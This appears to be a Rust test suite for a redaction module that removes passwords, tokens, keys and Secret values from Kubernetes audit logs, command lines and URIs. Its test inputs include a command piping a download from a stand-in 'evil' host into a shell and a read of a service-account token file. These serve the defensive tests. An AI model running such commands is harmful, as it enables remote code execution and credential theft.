use proptest::prelude::*;
use serde_json::{Value as Json, json};

use super::*;

fn kept(record: &str) -> String {
    String::from_utf8(Redact::default().record(record.as_bytes()).into_owned()).unwrap()
}

fn read(record: &Json) -> Json {
    serde_json::from_str(&kept(&record.to_string())).unwrap()
}

fn line(text: &str) -> String {
    Redact::default().command(&[text.to_owned()])
}

/// An event about a resource, with these bodies.
fn event(resource: &str, request: Json, response: Json) -> Json {
    json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": "a", "stage": "ResponseComplete", "verb": "create",
        "requestURI": format!("/api/v1/namespaces/web/{resource}"), "user": {"username": "eve"},
        "objectRef": {"resource": resource, "namespace": "web", "name": "p"},
        "requestObject": request, "responseObject": response, "stageTimestamp": "2026-01-02T03:04:05Z",
    })
}

#[test]
fn secrets_on_command_lines_are_left_out_and_the_rest_is_as_it_was() {
    for (given, kept) in [
        ("ls -la /var\n", "ls -la /var\n"),
        ("mysql --password=hunter2 -u root", "mysql --password=[redacted] -u root"),
        ("vault login --token s.123  now", "vault login --token [redacted]  now"),
        ("PGPASSWORD=x psql", "PGPASSWORD=[redacted] psql"),
        ("curl -H 'Authorization: Bearer abc' h", "curl -H 'Authorization: Bearer [redacted]' h"),
        ("curl -H \"Authorization: Basic YTpi\" h", "curl -H \"Authorization: Basic [redacted]\" h"),
        ("cat eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "cat [redacted]"),
        ("kubectl get secret db", "kubectl get secret db"),
        (
            "cat /run/secrets/kubernetes.io/serviceaccount/token",
            "cat /run/secrets/kubernetes.io/serviceaccount/token",
        ),
        ("é secret=ü", "é secret=[redacted]"),
        ("TOKEN=abc; curl http://evil | sh", "TOKEN=[redacted]; curl http://evil | sh"),
        ("DB_PASS='a b c' run", "DB_PASS='[redacted]' run"),
        ("mysql -uroot -phunter2 -e 'select 1'", "mysql -uroot -p[redacted] -e 'select 1'"),
        ("login -u me -p hunter2", "login -u me -p [redacted]"),
        ("mkdir -p a/b && ssh -p 22 h", "mkdir -p a/b && ssh -p 22 h"),
        ("docker run -p 80:80 nginx", "docker run -p 80:80 nginx"),
        ("redis-cli -a hunter2 ping", "redis-cli -a [redacted] ping"),
        ("curl -u me:hunter2 h", "curl -u me:[redacted] h"),
        ("git clone https://me:hunter2@host/x", "git clone https://me:[redacted]@host/x"),
        ("curl 'h?access_token=abc&x=1'", "curl 'h?access_token=[redacted]&x=1'"),
        ("export K=AKIAIOSFODNN7EXAMPLE", "export K=[redacted]"),
        ("x ghp_0123456789012345678901234567890123 y", "x [redacted] y"),
        ("curl -d '{\"password\":\"a b\",\"x\":1}'", "curl -d '{\"password\":\"[redacted]\",\"x\":1}'"),
        (
            "kubectl create secret generic db --from-literal=password=p",
            "kubectl create secret generic db --from-literal=password=[redacted]",
        ),
        ("cd $PWD; export PWD=/root", "cd $PWD; export PWD=/root"),
        ("echo -----BEGIN RSA PRIVATE KEY----- MII -----END RSA PRIVATE KEY----- x", "echo [redacted] x"),
    ] {
        assert_eq!(line(given), kept);
    }
    let words = |all: &[&str]| {
        Redact::default().command(&all.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>())
    };
    assert_eq!(words(&["login", "--password", "two words", "x"]), "login --password [redacted] x");
    assert_eq!(words(&["sh", "-c", "mysql -pabc;id"]), "sh -c mysql -p[redacted];id");
}

#[test]
fn commands_in_uris_are_read_one_argument_after_another() {
    let uri = |uri: &str| uri::redact(uri).into_owned();
    let plain = "/api/v1/namespaces/a/pods/p/exec?command=sh&command=-c&command=echo+%22a%22&container=app";
    assert_eq!(uri(plain), plain);
    assert_eq!(
        uri("/p/exec?command=login&command=--token%3Dabc&command=-p&command=x+y&container=app"),
        "/p/exec?command=login&command=--token%3D%5Bredacted%5D&command=-p&command=%5Bredacted%5D&container=app"
    );
    assert_eq!(uri("/p/proxy/x?token=abc&a=b"), "/p/proxy/x?token=%5Bredacted%5D&a=b");
}

#[test]
fn the_values_of_secrets_are_left_out_wherever_they_stand() {
    let secret = json!({"kind": "Secret", "metadata": {"name": "db", "annotations": {
        "kubectl.kubernetes.io/last-applied-configuration":
            "{\"kind\":\"Secret\",\"stringData\":{\"password\":\"hunter2\"}}\n"}},
        "data": {"password": "aHVudGVyMg==", "none": ""}, "type": "Opaque"});
    let shown = read(&event("secrets", secret.clone(), json!({"kind": "SecretList", "items": [secret]})));
    for body in [&shown["requestObject"], &shown["responseObject"]["items"][0]] {
        assert_eq!(body["data"], json!({"password": REDACTED, "none": ""}));
        assert_eq!((&body["type"], &body["metadata"]["name"]), (&json!("Opaque"), &json!("db")));
        let applied = &body["metadata"]["annotations"]["kubectl.kubernetes.io/last-applied-configuration"];
        assert_eq!(applied, "{\"kind\":\"Secret\",\"stringData\":{\"password\":\"[redacted]\"}}\n");
    }
    let patch = json!([{"op": "replace", "path": "/data/password", "value": "aHVudGVyMg=="}]);
    assert_eq!(read(&event("secrets", patch, Json::Null))["requestObject"][0]["value"], REDACTED);
    let request = json!({"kind": "TokenRequest", "status": {"token": "abc", "expirationTimestamp": "x"}});
    let shown = read(&event("serviceaccounts", Json::Null, request));
    assert_eq!(shown["responseObject"]["status"], json!({"token": REDACTED, "expirationTimestamp": "x"}));
    // As clouds write it: in a string of a record, or under other names.
    let record = json!({"records": [{"properties": {"log": event("secrets", json!({"data": {"a": "b"}}), Json::Null).to_string()}}]});
    assert!(!kept(&record.to_string()).contains(r#"\"a\":\"b\""#));
    let entry = json!({"protoPayload": {"resourceName": "core/v1/namespaces/a/secrets/b", "request": {"data": {"a": "b"}}}});
    assert_eq!(read(&entry)["protoPayload"]["request"]["data"]["a"], REDACTED);
}

#[test]
fn what_is_no_secret_stays() {
    let pod = json!({"kind": "Pod", "spec": {
        "automountServiceAccountToken": true, "imagePullSecrets": [{"name": "pull"}],
        "volumes": [{"name": "token", "secret": {"secretName": "db"}}],
        "containers": [{"name": "app", "image": "img:1", "command": ["sh", "-c", "run --token abc"], "env": [
            {"name": "MODE", "value": "fast"}, {"name": "DB_PASSWORD", "value": "hunter2"},
            {"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "db", "key": "token"}}}]}]}});
    let mut wanted = event("pods", pod, Json::Null);
    let given = wanted.clone();
    let app = &mut wanted["requestObject"]["spec"]["containers"][0];
    app["env"][1]["value"] = REDACTED.into();
    app["command"][2] = "run --token [redacted]".into();
    assert_eq!(read(&given), wanted);
    let map = json!({"kind": "ConfigMap", "data": {"a.properties": "user=me\npassword=x\n", "mode": "fast", "api-key": "k"}});
    let shown = read(&event("configmaps", map, Json::Null));
    assert_eq!(
        shown["requestObject"]["data"],
        json!({"a.properties": "user=me\npassword=[redacted]\n", "mode": "fast", "api-key": REDACTED})
    );
    let untouched = " {\"kind\" : \"Event\", \"a\":[1, 2.50 ,{}] }\n";
    assert!(matches!(Redact::default().record(untouched.as_bytes()), Cow::Borrowed(_)));
}

#[test]
fn a_telling_name_is_one_wherever_it_stands_and_for_lists() {
    let given = json!({"password": ["x", ["y"], 1, ""], "headers": {"X-Api-Key": ["k"], "accept": ["a"]}});
    let wanted = json!({"password": [REDACTED, REDACTED, 1, ""],
        "headers": {"X-Api-Key": [REDACTED], "accept": ["a"]}});
    assert_eq!(read(&given), wanted);
    let env = r#"[{"value":"x","from":{"value":"a","name":"b"},"name":"DB_PASSWORD"},{"value":"v","name":"MODE"},{"name":"TOKEN","value":["t"]}]"#;
    let wanted = r#"[{"value":"[redacted]","from":{"value":"a","name":"b"},"name":"DB_PASSWORD"},{"value":"v","name":"MODE"},{"name":"TOKEN","value":["[redacted]"]}]"#;
    assert_eq!(kept(env), wanted);
    // Where the front was cut off.
    let tail = r#"":1,"value":"x","name":"DB_PASSWORD"},{"value":"v","name":"MODE"}],"value":"v","name":"a","kind":"Pod","resource":"pods"}"#;
    assert_eq!(kept(tail), tail.replacen(r#""x""#, r#""[redacted]""#, 1));
}

#[test]
fn places_can_be_named() {
    let paths = ["/requestObject/spec/pin", "/annotations/*", "/requestObject/list/1/x"];
    let paths: Vec<Pointer> = paths.iter().map(|path| path.parse().unwrap()).collect();
    assert_eq!(paths[1].to_string(), "/annotations/*");
    let redact = Redact { secrets: false, paths };
    let mut given = event(
        "pods",
        json!({"spec": {"pin": 1234, "x": "y"}, "list": [{"x": 1}, {"x": {"y": [2]}}]}),
        Json::Null,
    );
    given["annotations"] = json!({"a": "b", "c": "d"});
    given["token"] = "stays".into();
    let shown: Json = serde_json::from_slice(&redact.record(given.to_string().as_bytes())).unwrap();
    assert_eq!(shown["requestObject"]["spec"], json!({"pin": REDACTED, "x": "y"}));
    assert_eq!(shown["requestObject"]["list"], json!([{"x": 1}, {"x": {"y": REDACTED}}]));
    assert_eq!(
        (&shown["annotations"], &shown["token"]),
        (&json!({"a": REDACTED, "c": REDACTED}), &json!("stays"))
    );
    let is_needed = |path: &str| path.parse::<Pointer>().unwrap().is_needed();
    assert!(
        is_needed("/auditID") && is_needed("/*") && !is_needed("/user/extra") && !is_needed("/requestObject")
    );
    assert!("spec".parse::<Pointer>().is_err());
}

#[test]
fn what_begins_or_ends_anywhere_shows_no_value_of_a_secret() {
    let value = "c3VwZXItc2VjcmV0LXZhbHVl";
    let body = json!({"kind": "Secret", "data": {"first": value, "k": value}});
    let event = event("secrets", body, Json::Null).to_string();
    let inside = json!({"records": [{"properties": {"log": event}}]}).to_string();
    let parts: Vec<_> = value.as_bytes().windows(6).map(|part| std::str::from_utf8(part).unwrap()).collect();
    for record in [event, inside] {
        for at in 0..record.len() {
            for (from, to) in [(0, at), (at, record.len()), (at, (at + record.len()) / 2)] {
                let cut = record.get(from..to).unwrap();
                let kept = kept(cut);
                assert!(!parts.iter().any(|part| kept.contains(part)), "{cut}\n{kept}");
            }
        }
    }
}

#[test]
fn depth_and_nesting_are_bounded() {
    let deep = "[".repeat(100_000) + "\"password=x\"" + &"]".repeat(100_000);
    assert!(kept(&deep).len() < 1000);
    let mut nested = json!({"token": "x"}).to_string();
    for _ in 0..8 {
        nested = json!({"a": nested}).to_string();
    }
    assert!(kept(&nested).contains(REDACTED) && !kept(&nested).contains("token"));
    assert!(!kept(&"[{\"data\":".repeat(50_000)).is_empty());
}

#[test]
fn what_is_read_grows_with_the_text_and_no_faster() {
    // So much that it would take hours if for each piece the rest were looked through.
    let much = |mib: usize, piece: &str| piece.repeat((mib << 20) / piece.len());
    for keys in ["-----BEGIN ", "-----BEGIN PRIVATE KEY-----", "-----BEGIN PRIVATE KEY----- -----END "] {
        let document = json!({"a": much(4, keys)}).to_string();
        assert_eq!(kept(&document).contains(REDACTED), keys.contains("KEY"));
    }
    let quotes = much(1, "'");
    for words in
        [much(1, "x=") + &quotes, much(1, "?token=a&"), "x ".to_owned() + &much(1, "token=a;") + &quotes]
    {
        assert_eq!(line(&words).contains(REDACTED), words.contains("token"));
    }
    let values = format!("{{\"{}\":[{}1]}}", much(8, "x"), "1,".repeat(1 << 17));
    let places = Redact { secrets: false, paths: vec!["/x/*".parse().unwrap()] };
    assert!(matches!(places.record(values.as_bytes()), Cow::Borrowed(_)));
}

/// Text of what redaction looks for, in any order.
fn pieces() -> impl Strategy<Value = String> {
    let pieces = [
        "{",
        "}",
        "[",
        "]",
        ",",
        ":",
        "\"",
        "\\",
        "\\\"",
        " ",
        "\n",
        "\"data\":",
        "\"kind\":\"Secret\"",
        "\"value\":{",
        "\"command\":[",
        "\"name\":\"TOKEN\"",
        "\"a\"",
        "\"token\":",
        "--token ",
        "-p ",
        "mysql ",
        "-px",
        "PASSWORD=",
        "'",
        "\"{\\\"data\\\":{\\\"a\\\":1",
        "Bearer ",
        "eyJhbGciOiJ.IUzI1NiJ9.eyJz",
        "AKIAIOSFODNN7EXAMPLE",
        "://a:b@c",
        ";",
        "&",
        "?",
        "command=",
        "[redacted]",
        "é",
        "-----BEGIN PRIVATE KEY-----",
        "-----END PRIVATE KEY-----",
        "1",
        "null",
        "\"requestURI\":\"/a?command=",
        "password:",
        "\\u12",
    ];
    prop::collection::vec(prop::sample::select(pieces.to_vec()), 0..40).prop_map(|pieces| pieces.concat())
}

/// Text as it comes.
fn sensible() -> impl Strategy<Value = String> {
    let texts = [
        "run --token abc -p x",
        "-p",
        "--password",
        "PASSWORD='a b' sh -c 'mysql -px; id'",
        "{\"data\":{\"a\":\"b\"},\"token\":\"c\"}",
        "[{\"kind\":\"Secret\",\"value\":{\"a\":[1]}}]",
        "{\"a\":\"{\\\"token\\\":\\\"b\\\"}\"}",
        "Bearer abc",
        "https://a:b@c/?token=d&e=f",
        "/a?command=x&command=--token%3Db",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
        "AKIAIOSFODNN7EXAMPLE",
        "TOKEN",
        "",
        "-----BEGIN PRIVATE KEY-----\nMII\n-----END PRIVATE KEY-----\n",
        "a: b\npassword: c\n",
        "[redacted]",
    ];
    prop::sample::select(texts.to_vec()).prop_map(str::to_owned)
}

fn any_json(text: impl Strategy<Value = String> + 'static) -> impl Strategy<Value = Json> {
    let text = prop_oneof![text, Just("Secret".to_owned()), "[a-z]{0,6}"];
    let key = prop_oneof![
        prop::sample::select(vec!["data", "kind", "value", "token", "command", "name", "requestURI", "a"])
            .prop_map(str::to_owned),
        "[a-z\"]{0,4}"
    ];
    let leaf = prop_oneof![text.prop_map(Json::from), any::<i32>().prop_map(Json::from), Just(Json::Null)];
    leaf.prop_recursive(4, 30, 5, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..5).prop_map(Json::from),
            prop::collection::btree_map(key.clone(), inner, 0..5)
                .prop_map(|members| members.into_iter().collect()),
        ]
    })
}

proptest! {
    #[test]
    fn anything_is_taken(record in prop_oneof![pieces(), any::<String>()], cut: prop::sample::Index) {
        kept(&record);
        line(&record);
        uri::redact(&record);
        // Also what is no UTF-8.
        let bytes = record.as_bytes();
        let mut bytes = bytes[..cut.index(bytes.len() + 1)].to_vec();
        bytes.push(0xff);
        Redact::default().record(&bytes);
    }

    #[test]
    fn what_is_taken_again_is_as_it_was(body in any_json(sensible()), resource in "secrets|pods", cut: prop::sample::Index) {
        let record = event(&resource, body.clone(), body).to_string();
        let head: String = record.chars().take(cut.index(record.len())).collect();
        for record in [record, head] {
            let once = kept(&record);
            prop_assert_eq!(&kept(&once), &once);
        }
    }

    #[test]
    fn sound_json_stays_sound_with_the_same_names(document in any_json(pieces())) {
        fn same(a: &Json, b: &Json) -> bool {
            match (a, b) {
                (_, Json::String(b)) if b == REDACTED => true,
                (Json::Object(a), Json::Object(b)) =>
                    a.len() == b.len() && a.iter().all(|(key, a)| b.get(key).is_some_and(|b| same(a, b))),
                (Json::Array(a), Json::Array(b)) => a.len() == b.len() && a.iter().zip(b).all(|(a, b)| same(a, b)),
                (Json::String(_), Json::String(_)) => true,
                (a, b) => a == b,
            }
        }
        prop_assert!(same(&document, &read(&document)), "{}", read(&document));
    }

    #[test]
    fn an_event_is_the_same_event_afterwards(body in any_json(pieces()), resource in "secrets|pods") {
        let before = event(&resource, body.clone(), body).to_string();
        let before = Event::parse(&before).unwrap();
        let (id, again) = Redact::default().event(&before, |kept| {
            (audit_event::EventId::of(kept, None), kept.raw().text().to_owned())
        });
        prop_assert_eq!(id, audit_event::EventId::of(&before, None));
        prop_assert!(Event::parse(&again).is_ok());
    }
}
